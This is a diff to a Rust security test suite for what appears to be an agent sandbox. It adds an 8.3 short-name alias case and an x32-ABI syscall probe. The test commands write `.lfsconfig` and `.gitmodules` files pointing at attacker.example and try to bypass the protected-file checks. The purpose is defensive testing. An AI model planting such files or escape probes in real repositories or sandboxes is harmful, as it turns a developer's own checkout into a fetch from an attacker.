@@ -890,7 +890,8 @@ async fn another_spelling_of_a_protected_name_is_never_kept() {
 /// the root, through a chain of links whose `..` a lexical reading would miss), out of the
 /// repository (absolute, by `..`, a Windows drive) and into `.git`,
 /// and files that make git on the user's machine run or fetch what they name at checkout
-/// (`.gitattributes` with an lfs filter, `.lfsconfig`, `.gitmodules`, in any directory).
+/// (`.gitattributes` with an lfs filter, `.lfsconfig`, `.gitmodules`, in any directory, and
+/// an 8.3 short name that may alias one on Windows).
 /// None is kept on the branch; a link inside the project and the run's other change are.
 #[tokio::test(flavor = "multi_thread")]
 async fn links_out_and_files_git_runs_at_checkout_are_never_kept() {
@@ -903,7 +904,7 @@ async fn links_out_and_files_git_runs_at_checkout_are_never_kept() {
          mkdir -p sub && printf '*.rs filter=evil\\n' > sub/.gitattributes; \
          printf '[lfs]\\n\\turl = https://attacker.example/\\n' > .lfsconfig; \
          printf '[submodule \"x\"]\\n\\turl = https://attacker.example/x\\n' > .gitmodules; \
-         echo kept > notes.txt; git add -A && git -c user.name=a -c user.email=a@b commit -qm links && git ls-tree -r HEAD";
+         printf '* filter=lfs\\n' > GITATT~1; echo kept > notes.txt; git add -A && git -c user.name=a -c user.email=a@b commit -qm links && git ls-tree -r HEAD";
     let (run, events, seen) = attack(&project, PERMISSIVE, vec![shell(write)]).await;
     assert!(seen.contains("src/leak"), "{seen}");
     let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
@@ -999,7 +1000,8 @@ for name, nr, args in [("keyctl", 250, (0, -3, 0)), ("add_key", 248, (b"user", b
     r = libc.syscall(nr, *args)
     print(name, "ok" if r >= 0 else os.strerror(ctypes.get_errno()))
 print("pid", os.getpid() > 0)
-PY"#;
+PY
+python3 -c 'import ctypes; ctypes.CDLL(None).syscall(0x40000027)'; echo x32=$?"#;
     let (_, _, seen) = attack(&project, PERMISSIVE, vec![shell(probe)]).await;
     assert!(seen.contains("unshare=1"), "{seen}");
     for name in [
@@ -1018,6 +1020,8 @@ PY"#;
     }
     assert!(seen.contains("clone3 Function not implemented"), "{seen}");
     assert!(seen.contains("pid True"), "{seen}");
+    // A call through the x32 ABI (getpid's number with the x32 bit) kills the process: SIGSYS.
+    assert!(seen.contains("x32=159"), "{seen}");
 }
 
 /// A command agent keeps the host's network, and with it every abstract UNIX socket on the
